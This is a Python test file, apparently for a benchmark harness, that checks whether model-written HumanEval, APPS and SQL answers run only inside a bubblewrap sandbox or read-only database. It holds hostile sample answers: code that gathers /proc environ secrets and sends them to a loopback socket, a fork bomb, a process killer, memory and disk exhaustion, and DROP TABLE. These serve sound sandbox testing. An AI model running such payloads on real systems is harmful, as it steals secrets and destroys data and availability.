"""Programs in answers: refused unless allowed, and then executed where they can do no harm."""

from __future__ import annotations

import json
import re
import shutil
import socket
import sqlite3
import subprocess
import threading
from collections.abc import Iterator
from pathlib import Path
from typing import Any

import pytest

from facts import says
from integration.test_any_run_spec import OFFLINE
from integration.test_real_data import bare_helm
from program_runs import CANARY, Outcome, Run
from scripted_endpoint import ScriptedEndpoint

pytestmark = pytest.mark.usefixtures("as_processes")

HUMANEVAL = "helm:code:dataset=humaneval"
ALLOWED = {"extra": {"allow_code_execution": True}}

GOLD = "    return a + b\n"
STEAL = """    import glob, os, socket
    stolen = b"stolen"
    for name in ["/proc/self/environ", *glob.glob("/proc/*/environ")]:
        try:
            with open(name, "rb") as file:
                stolen += file.read()
        except OSError:
            pass
    for folder in {folders!r}:
        try:
            with open(folder + "/stolen", "wb") as file:
                file.write(stolen)
        except OSError:
            pass
    try:
        with socket.create_connection(("127.0.0.1", {port}), 2) as connection:
            connection.sendall(stolen)
    except OSError:
        pass
    assert {canary!r}.encode() not in stolen
    return a + b
"""
READ = """    try:
        open({secret!r}).read()
    except OSError:
        return a + b
"""
FORK = """    import ctypes
    fork = ctypes.CDLL(None).fork
    return a + b if all(fork() == -1 for _ in range(20)) else None
"""
KILL = """    import ctypes, os, glob
    for name in glob.glob("/proc/[0-9]*"):
        if int(name[6:]) != os.getpid():
            ctypes.CDLL(None).kill(int(name[6:]), 9)
    return a + b
"""
ALLOCATE = """    try:
        held = bytearray(20_000_000_000)
    except MemoryError:
        return a + b
"""
LOOP = """    while True:
        try:
            while True:
                pass
        except BaseException:
            pass
"""
PRINT = """    import os
    for _ in range(2_000):
        print("x" * 10_000)
        os.write(1, b"x" * 10_000)
        os.write(2, b"x" * 10_000)
    return a + b
"""
WRONG = "    return a - b\n"
RAISE = "    raise SystemExit\n"
FILL = """    with open("large", "wb") as file:
        try:
            for _ in range(200):
                file.write(b"x" * 1_000_000)
        except OSError:
            return a + b
"""


Canary = tuple[int, list[bytes]]


@pytest.fixture
def canary_server() -> Iterator[Canary]:
    """Its port, and what was sent to it; loopback only."""
    heard: list[bytes] = []
    with socket.create_server(("127.0.0.1", 0)) as server:

        def listen() -> None:
            while True:
                try:
                    connection, _ = server.accept()
                except OSError:
                    return
                with connection:
                    heard.append(connection.recv(1 << 20))

        thread = threading.Thread(target=listen, daemon=True)
        thread.start()
        yield server.getsockname()[1], heard
        server.shutdown(socket.SHUT_RDWR)
    thread.join(5)


def problems(folder: Path, count: int) -> None:
    """Invented problems where HELM looks for HumanEval's."""
    file = folder / "scenarios" / "code" / "HumanEval.jsonl"
    file.parent.mkdir(parents=True)
    test = (
        "def check(candidate):\n    assert candidate(1, 2) == 3\n    assert candidate(-1, 1) == 0\n"
    )
    lines = [
        {
            "task_id": f"invented/{n}",
            "prompt": f"def f{n}(a, b):\n",
            "canonical_solution": GOLD,
            "test": test,
            "entry_point": f"f{n}",
        }
        for n in range(count)
    ]
    file.write_text("".join(json.dumps(line) + "\n" for line in lines))


def answering(answers: list[str]) -> ScriptedEndpoint:
    def answer(prompt: str) -> str:
        asked = re.findall(r"def f(\d+)\(", prompt)
        return answers[int(asked[-1])] if asked else "pong"

    return ScriptedEndpoint(answer)


def passed(outcome: Outcome) -> dict[int, float]:
    """Number of the problem -> whether its answer passed."""
    lines = [
        json.loads(line) for line in (outcome.output_dir / "results.jsonl").read_text().splitlines()
    ]
    prompts = {
        line["id"]: int(re.findall(r"def f(\d+)\(", line["prompt"])[-1])
        for line in map(
            json.loads, (outcome.output_dir / "instances.jsonl").read_text().splitlines()
        )
    }
    return {prompts[line["id"]]: line["metrics"]["pass"] for line in lines}


def means_of(stats: list[dict[str, Any]]) -> dict[str, float | None]:
    return {
        stat["name"]["name"]: stat.get("mean")
        for stat in stats
        if "perturbation" not in stat["name"]
    }


def bubblewrap_works() -> bool:
    if shutil.which("bwrap") is None:
        return False
    argv = ["bwrap", "--unshare-all", "--ro-bind", "/", "/", "--proc", "/proc", "true"]
    return subprocess.run(argv, check=False, capture_output=True).returncode == 0


needs_bubblewrap = pytest.mark.skipif(
    not bubblewrap_works(), reason="needs bubblewrap (bwrap), and the right to make namespaces"
)


@needs_bubblewrap
def test_answers_that_attack_find_nothing(
    tmp_path: Path, run_program: Run, canary_server: Canary
) -> None:
    port, heard = canary_server
    home = tmp_path / "home"
    out = tmp_path / "out"
    home.mkdir()
    (home / "secret").write_text("a key")
    steal = STEAL.format(folders=[str(home), str(out), str(tmp_path)], port=port, canary=CANARY)
    attacks = [steal, READ.format(secret=str(home / "secret")), FORK, KILL, ALLOCATE, PRINT, FILL]
    answers = [GOLD, *attacks, LOOP, WRONG, RAISE, ""]
    problems(out / "helm", len(answers))
    with answering(answers) as endpoint:
        outcome = run_program(
            HUMANEVAL, endpoint.url, params=ALLOWED, env={**OFFLINE, "HOME": str(home)}
        )
    assert outcome.returncode == 0, outcome.stderr
    assert heard == []
    assert list(tmp_path.rglob("stolen")) == []
    for path in (path for path in tmp_path.rglob("*") if path.is_file()):
        assert CANARY.encode() not in path.read_bytes(), path
    fine = len(attacks) + 1
    assert passed(outcome) == {n: float(n < fine) for n in range(len(answers))}
    document = outcome.document()
    assert outcome.scores()["pass"] == fine / len(answers)
    assert document["provenance"]["code_execution"]["confined_by"][0] == "bubblewrap"
    says(document["validity"]["notes"], "was executed")
    assert document["config"]["params"]["extra"]["allow_code_execution"] is True
    assert (outcome.output_dir / "logs" / "helm-run.log").stat().st_size < 1_000_000


@pytest.mark.parametrize("program", ["none", "#!/bin/sh\necho no permission >&2\nexit 1\n"])
def test_nothing_is_asked_where_there_is_no_sandbox(
    program: str, tmp_path: Path, run_program: Run
) -> None:
    """bubblewrap is not installed, or may not make namespaces."""
    folder = tmp_path / "bin"
    folder.mkdir()
    if program != "none":
        (folder / "bwrap").write_text(program)
        (folder / "bwrap").chmod(0o755)
        for needed_by_root in ("setpriv", "chown"):
            (folder / needed_by_root).symlink_to(f"/usr/bin/{needed_by_root}")
    problems(tmp_path / "out" / "helm", 1)
    with answering([GOLD]) as endpoint:
        outcome = run_program(
            HUMANEVAL, endpoint.url, params=ALLOWED, env={**OFFLINE, "PATH": str(folder)}
        )
        assert endpoint.requests == []
    assert outcome.returncode == 3
    assert HUMANEVAL in outcome.stderr
    says(outcome.stderr, "only in a sandbox")
    assert (
        "package is bubblewrap" if program == "none" else "here: no permission"
    ) in outcome.stderr
    assert "nothing was asked" in outcome.stderr


@needs_bubblewrap
def test_honest_answers_score_as_in_helm(tmp_path: Path, run_program: Run) -> None:
    """Right, wrong, failing and unfinished ones; each metric of HELM's, to the last digit."""
    answers = [
        GOLD,
        WRONG,
        RAISE,
        "",
        "    return (a +",
        "    import numpy as np\n    return int(np.add(a, b))\n",
    ]
    problems(tmp_path / "out" / "helm", len(answers))
    problems(tmp_path / "bare", len(answers))
    with answering(answers) as endpoint:
        params = {"extra": {"max_unreadable": 1.0}}  # one of them is empty
        outcome = run_program(
            HUMANEVAL, endpoint.url, "--allow-code-execution", params=params, env=OFFLINE
        )
        assert outcome.returncode == 0, outcome.stderr
        bare = bare_helm(tmp_path / "bare", "code:dataset=humaneval", endpoint.url, OFFLINE)
    theirs = means_of(bare)
    ours = outcome.scores()
    for name in ("pass", "code_eval_acc", "pass@1", "code_eval_acc@1"):
        assert (name in ours) == (name in theirs), name
        assert ours.get(name) == theirs.get(name), name
    assert ours["pass"] == pytest.approx(2 / len(answers))


@pytest.mark.more_data
@needs_bubblewrap
def test_apps_scores_as_in_helm(tmp_path: Path, run_program: Run) -> None:
    """Tests by standard input and by call; the answer that never ends has none that pass."""
    answers = {
        "twice": "n = int(input())\nprint(2 * n)\n",
        "called": "def called(n):\n    return n + 1 if n < 2 else n\n",
        "endless": "while True:\n    pass\n",
        "broken": "print(",
    }
    for folder in (tmp_path / "out" / "helm", tmp_path / "bare"):
        for split in ("train", "test"):
            for name in answers:
                place = folder / "scenarios" / "code" / "APPS" / split / name
                place.mkdir(parents=True)
                (place / "question.txt").write_text(f"The problem is {name}.")
                (place / "solutions.json").write_text(json.dumps(["print(1)"]))
                tests: dict[str, Any] = {"inputs": ["1\n", "2\n"], "outputs": ["2\n", "4\n"]}
                if name == "called":
                    tests = {"fn_name": "called", "inputs": [[1], [2]], "outputs": [[2], [3]]}
                (place / "input_output.json").write_text(json.dumps(tests))

        order = folder / "scenarios" / "code" / "APPS" / "code_scenario_apps_pinned_file_order.json"
        order.write_text(json.dumps({split: list(answers) for split in ("train", "test")}))

    def answer(prompt: str) -> str:
        return answers.get((re.findall(r"The problem is (\w+)\.", prompt) or [""])[-1], "pong")

    with ScriptedEndpoint(answer) as endpoint:
        outcome = run_program("helm:code:dataset=apps", endpoint.url, params=ALLOWED, env=OFFLINE)
        assert outcome.returncode == 0, outcome.stderr
        bare = bare_helm(tmp_path / "bare", "code:dataset=apps", endpoint.url, OFFLINE)
    theirs = means_of(bare)
    ours = outcome.scores()
    assert ours["test_avg"] == theirs["test_avg"] == pytest.approx(1.5 / 4)
    assert ours["strict_acc"] == theirs["strict_acc"] == 0.25


def bird(folder: Path) -> Path:
    """Two invented questions on an invented database."""
    data = folder / "scenarios" / "bird_sql" / "dev"
    database = data / "unzipped_dev_databases" / "dev_databases" / "school" / "school.sqlite"
    database.parent.mkdir(parents=True)
    with sqlite3.connect(database) as connection:
        connection.execute("CREATE TABLE pupil (name TEXT, age INTEGER)")
        connection.executemany("INSERT INTO pupil VALUES (?, ?)", [("Ann", 10), ("Bo", 11)])
    connection.close()
    gold = {
        0: "SELECT name FROM pupil WHERE age > 10",
        1: "SELECT count(*), avg(age) FROM pupil",
        2: "SELECT age FROM pupil",
    }
    rows = [
        {
            "question_id": number,
            "db_id": "school",
            "question": f"Question {number}?",
            "evidence": "",
            "SQL": query,
        }
        for number, query in gold.items()
    ]
    (data / "dev.json").write_text(json.dumps(rows))
    return database


def test_sql_that_a_model_writes_only_reads(tmp_path: Path, run_program: Run) -> None:
    database = bird(tmp_path / "out" / "helm")
    before = database.read_bytes()
    answers = [
        "<sql>SELECT name FROM pupil WHERE age = 11</sql>",
        "<sql>SELECT 2, 10.5</sql>",
        "<sql>DROP TABLE pupil</sql>",
    ]
    with ScriptedEndpoint(
        lambda prompt: answers[int((re.findall(r"Question (\d)\?", prompt) or [0])[-1])]
    ) as endpoint:
        refused = run_program("helm:bird_sql", endpoint.url, env=OFFLINE)
        assert refused.returncode == 2
        assert "--allow_code_execution" in refused.stderr
        assert endpoint.requests == []
        outcome = run_program("helm:bird_sql", endpoint.url, params=ALLOWED, env=OFFLINE)
    assert outcome.returncode == 0, outcome.stderr
    assert outcome.scores()["execution_accuracy"] == pytest.approx(2 / 3)
    assert database.read_bytes() == before
    assert sorted(path.name for path in database.parent.iterdir()) == ["school.sqlite"]
    assert (
        "for reading only" in outcome.document()["provenance"]["code_execution"]["confined_by"][0]
    )
